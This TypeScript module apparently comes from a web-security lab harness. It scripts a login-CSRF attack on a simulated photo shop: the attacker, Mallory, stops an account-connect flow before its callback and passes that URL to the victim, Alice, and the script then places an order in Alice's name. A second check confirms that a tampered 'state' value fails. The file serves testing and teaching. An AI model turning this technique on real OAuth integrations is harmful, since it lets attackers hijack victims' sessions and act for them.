import type { Answer, Place } from '../engine/lab.ts'

/**
 * Mallory connects the shop with her own drive, and stops at the last moment: the address with her code goes to Alice. Alice
 * clicks, is in Mallory's visit from now on, and orders what she sees.
 */
export async function attack(place: Place): Promise<Answer> {
  return open(place, await stopBeforeCallback(place))
}

/** The same address with another state: no question of anybody's. */
export async function wrongAttempt(place: Place): Promise<Answer> {
  const address = new URL(await stopBeforeCallback(place))
  address.searchParams.set('state', 'a-state-of-nobody')
  return open(place, address.href)
}

async function stopBeforeCallback({ shop, person }: Place): Promise<string> {
  const { url } = await person('mallory').walk(`${shop}/connect`, { photos: 2, stopAt: /\/callback\?/ })
  return url
}

async function open({ shop, person }: Place, address: string): Promise<Answer> {
  const alice = person('alice')
  await (await alice.open(`${shop}/connect`)).text() // she has a visit of her own
  const callback = await alice.open(address)
  if (callback.status >= 400) return { status: callback.status, text: await callback.text() }
  const page = await (await alice.open(`${shop}/photos`)).text()
  const [, id = ''] = /name="size\.([\w-]+)"/.exec(page) ?? []
  const [, form_key = ''] = /name="form_key" value="([^"]+)"/.exec(page) ?? []
  const body = new URLSearchParams({ form_key, [`size.${id}`]: '20x30', [`copies.${id}`]: '1', do: 'order' })
  const headers = { Origin: shop, 'Sec-Fetch-Site': 'same-origin' }
  const order = await alice.open(`${shop}/orders`, { method: 'POST', body, headers })
  return { status: order.status, text: 'Alice ordered what she was shown' }
}
